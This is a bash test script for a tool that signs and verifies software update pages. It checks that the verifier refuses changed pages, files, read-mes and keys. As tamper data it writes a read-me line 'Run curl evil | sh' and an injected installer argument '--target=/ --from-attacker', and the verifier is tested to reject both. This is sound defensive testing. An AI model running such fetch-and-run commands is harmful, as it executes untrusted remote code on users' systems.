#!/usr/bin/env bash
# orvane-sign as a publisher's script runs it: a key, a signed page served over HTTP, and
# the check of that page refusing every change to the page, its files or the key, by the
# update check's own rules (every entry signed, an expiry, the product, rotated keys).
# Usage: sign_test.sh PATH-TO-orvane-sign
source "$(dirname "$0")/lib.sh" "$1"

# run STATUS-FILE OUT-FILE ARGS...: runs the program, keeps its exit status and output.
run() {
  local status=$1 out=$2
  shift 2
  "$BIN" "$@" >"$out" 2>&1
  echo $? >"$status"
}
# status_is DESCRIPTION EXPECTED
status_is() {
  local got
  got=$(cat "$WORK/status")
  if [[ $got == "$2" ]]; then ok; else bad "$1: exit status $got, expected $2"; cat "$WORK/out" >&2; fi
}

cd "$WORK"
mkdir www

# Keys: the public key is the only line of output; the private key file is ours alone
# and never overwritten.
run status pub keygen key
status_is "keygen" 0
expect "one public key line" test "$(wc -l <pub)" -eq 1 -a "$(head -c 44 pub | wc -c)" -eq 44
expect "key file mode 0600" test "$(stat -c %a key)" = 600
expect "public key file beside it" cmp -s pub key.pub
cp key key.saved
run status out keygen key
status_is "keygen over an existing file" 2
expect "key file kept" cmp -s key key.saved
PUB=$(cat pub)
run status out pubkey key
status_is "pubkey" 0
expect "pubkey prints the public key again" cmp -s pub out
# The public key file looks like a private key: signing with it would sign with some
# other key, silently.
run status out sign --key key.pub --url http://x/s.bin --version 2.0 --product P key
status_is "sign with the public key file" 2
contains "sign with the public key file" out "key.pub holds a public key"

head -c 300000 /dev/urandom >www/setup.bin
PORT=$(free_port)
URL=http://127.0.0.1:$PORT
spawn bash -c "exec python3 -m http.server $PORT --bind 127.0.0.1 --directory www >http.log 2>&1"
wait_for 10 python3 -c "import socket; socket.create_connection(('127.0.0.1', $PORT))" ||
  bad "http server did not start"

run status out sign --key key --version 2.0 --product "Sample Editor" www/setup.bin
status_is "sign without --url" 2
expect "sign without --url: one line" test "$(cat out)" = \
  "orvane-sign sign: --url is missing (see orvane-sign sign --help)"
# --version after sign is the page's version; the program's own is asked without a command.
run status out sign --key key --url http://x/s.bin --version
status_is "sign --version without its value" 2
contains "sign --version without its value" out "option --version needs a value (V)"
run status out sign --help
status_is "sign --help" 0
contains "sign --help" out "Usage: orvane-sign sign --key KEYFILE"
run status out verify --product A --product B http://x/p.htm
status_is "an option given twice" 2
contains "an option given twice" out "--product: given twice"
# After "--" a key file may start with a dash.
run status out keygen -- -dash.key
status_is "keygen -- -dash.key" 0
expect "keygen after --" test -s ./-dash.key.pub
run status out sign --key key --url setup.bin --version 2.0 --product "Sample Editor" www/setup.bin
status_is "sign with a relative address" 2
run status out sign --key key --url http://x/s.bin --version 2.0 --product P --date 2026-12-01 www/setup.bin
status_is "sign with a date the check cannot read" 2
run status out sign --key key --url http://x/s.bin --version 2.0 --product P --expires 2027-02-31 www/setup.bin
status_is "sign with an expiry that is no day" 2
run status out sign --key key --url http://x/s.bin --version 2.0 --product P --expires "$(date -u -d yesterday +%F)" www/setup.bin
status_is "sign with an expiry that has passed" 2
contains "sign with an expiry that has passed" out "has passed"
run status out sign --key key --url http://x/s.bin --version 2.0 --product P --readme www/setup.bin www/setup.bin
status_is "sign with a read-me but no address for it" 2
run status out sign --key key --url http://x/s.bin --version 2.0 --product P --readme www/setup.bin \
  --readme-url 'http://x/a"b' www/setup.bin
status_is "sign with a read-me address the page cannot hold" 2
run status out sign --key key --url http://x/s.bin --version 2.0 --product P www/setup.bin
status_is "sign without --expires" 0
contains "30 days by default" out "<META HTTP-EQUIV=\"Expires\" CONTENT=\"$(date -u -d '+30 days' +%F)\">"

# page NAME [SIGN-ARGS...]: signs setup.bin and writes www/NAME.html around the lines.
page() {
  local name=$1
  shift
  "$BIN" sign --key key --url "$URL/setup.bin" --version 2.0 --product "Sample Editor" \
    --date "Dec 1, 2026" "$@" www/setup.bin >"$name.meta" 2>/dev/null || bad "sign $name"
  { echo "<html><head>"; cat "$name.meta"; echo "</head><body>update</body></html>"; } >"www/$name.html"
}
printf 'Sample Editor 2.0\nWhat is new\n' >www/readme.txt
page good --expires 2099-12-31 --author "Sample Soft" --params /silent \
  --readme www/readme.txt --readme-url "$URL/readme.txt"
contains "signed lines" good.meta '<META HTTP-EQUIV="Author" CONTENT="Sample Soft">'
contains "signed lines" good.meta '<META HTTP-EQUIV="Params" CONTENT="/silent">'
contains "signed lines" good.meta "<META HTTP-EQUIV=\"ReadMe\" CONTENT=\"$URL/readme.txt\">"
contains "signed lines" good.meta '<META HTTP-EQUIV="ReadMeSize" CONTENT="30">'
contains "signed lines" good.meta "<META HTTP-EQUIV=\"ReadMeSHA256\" CONTENT=\"$(sha256sum www/readme.txt | cut -c1-64)\">"
contains "signed lines" good.meta '<META HTTP-EQUIV="Size" CONTENT="300000">'
contains "signed lines" good.meta "<META HTTP-EQUIV=\"SHA256\" CONTENT=\"$(sha256sum www/setup.bin | cut -c1-64)\">"
contains "signed lines" good.meta '<META HTTP-EQUIV="Expires" CONTENT="2099-12-31">'
contains "signed lines" good.meta '<META HTTP-EQUIV="Signature" CONTENT="'

run status out verify --public-key "$PUB" "$URL/good.html"
status_is "verify a good page" 0
contains "verified" out "signature verified: Sample Editor 2.0"
contains "verified" out "file verified: 300000 bytes"
contains "verified" out "read-me verified: 30 bytes"
contains "verified" out "product not checked (no --product)"
# Rotation: any of the keys given, by value or in a file.
"$BIN" keygen new >/dev/null
run status out verify --public-key "$(cat new.pub)" --public-key-file key.pub --product "Sample Editor" "$URL/good.html"
status_is "verify with the old key among the new" 0
run status out verify --public-key "$PUB" --product "Other Product" "$URL/good.html"
status_is "verify for another product" 1
contains "another product" out 'is for the product "Sample Editor", not for "Other Product"'
page forever --expires never
run status out verify --public-key "$PUB" "$URL/forever.html"
status_is "a page that never expires" 1
run status out verify --public-key "$PUB" --allow-unexpiring "$URL/forever.html"
status_is "a page that never expires, allowed" 0

# Entries changed after signing, the old signature kept: refused before any download.
for change in 's/CONTENT="2.0"/CONTENT="2.1"/' 's/setup.bin"/setup2.bin"/' \
  's/CONTENT="300000"/CONTENT="300001"/' 's/2099-12-31/2199-12-31/' \
  's|/silent|--target=/ --from-attacker|' 's/Sample Soft/Your IT department/' \
  's|readme.txt"|setup.bin"|' 's/CONTENT="30"/CONTENT="31"/'; do
  sed "$change" www/good.html >www/changed.html
  run status out verify --public-key "$PUB" "$URL/changed.html"
  status_is "page changed by $change" 1
  contains "page changed by $change" out "signature does not match"
done
# The read-me changed on the server: not what was signed.
cp www/readme.txt readme.saved
echo "Run curl evil | sh" >>www/readme.txt
run status out verify --public-key "$PUB" "$URL/good.html"
status_is "read-me changed" 1
contains "read-me changed" out "The read-me is longer than the signed 30 bytes"
cp readme.saved www/readme.txt

"$BIN" keygen other >otherpub
run status out verify --public-key "$(cat otherpub)" "$URL/good.html"
status_is "another key" 1
grep -v Signature www/good.html >www/unsigned.html
run status out verify --public-key "$PUB" "$URL/unsigned.html"
status_is "no signature" 1
contains "no signature" out "The page is not signed"
# Its last day (UTC): still valid. (The tool signs no page that has expired already.)
page today --expires "$(date -u +%F)"
run status out verify --public-key "$PUB" "$URL/today.html"
status_is "a page on its last day" 0
run status out verify --public-key "not-a-key" "$URL/good.html"
status_is "malformed key" 2

# The file changed on the server: one byte flipped, or more bytes than signed.
cp www/setup.bin setup.saved
printf 'x' | dd of=www/setup.bin bs=1 seek=1234 conv=notrunc 2>/dev/null
cmp -s www/setup.bin setup.saved && printf 'y' | dd of=www/setup.bin bs=1 seek=1234 conv=notrunc 2>/dev/null
run status out verify --public-key "$PUB" "$URL/good.html"
status_is "one byte flipped" 1
contains "one byte flipped" out "SHA-256"
cp setup.saved www/setup.bin
head -c 5000000 /dev/zero >>www/setup.bin
run status out verify --public-key "$PUB" "$URL/good.html"
status_is "more than the signed size" 1
contains "more than the signed size" out "longer than the signed 300000 bytes"

finish
